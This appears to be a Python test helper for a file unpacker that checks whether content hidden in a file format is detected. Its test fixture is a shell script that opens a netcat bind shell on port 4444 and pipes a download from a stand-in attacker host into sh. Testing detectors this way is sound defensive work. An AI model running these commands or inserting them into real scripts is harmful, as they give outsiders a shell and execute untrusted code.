"""What the attacks share: content hidden in a format, and whether the opener sees it.

Hidden is what ends as ``parsed``, ``signature`` or ``padding`` in a file that is called
complete. Seen is what stays unexplained, is in a child, or leaves the file incomplete. What
only the last net finds (``disguised``) counts as hidden: its opener has read too kindly.
"""

from tests.unpack.helpers import Bench, rules

SCRIPT = b"#!/bin/sh\n" + b"nc -l -p 4444 -e /bin/sh &\nwget -q http://evil.example/x | sh\n" * 6
SHORT = SCRIPT[:240]


def seen(data, hidden=SCRIPT):
    """Return whether ``hidden``, which stands in ``data``, is seen by the opener."""
    bench = Bench()
    opened = bench.open(data)
    if "unpack.evasion.hidden" in rules(opened):
        return False
    if not opened.complete:
        return True
    at = data.index(hidden)
    end = at + len(hidden)
    children = [bench.store.read(each.sha256) for each in opened.entries if each.sha256]
    if any(hidden in child for child in children):
        return True
    kinds = {each.kind for each in opened.regions if each.start < end and at < each.end}
    return kinds <= {"unexplained", "extracted"} and "unexplained" in kinds
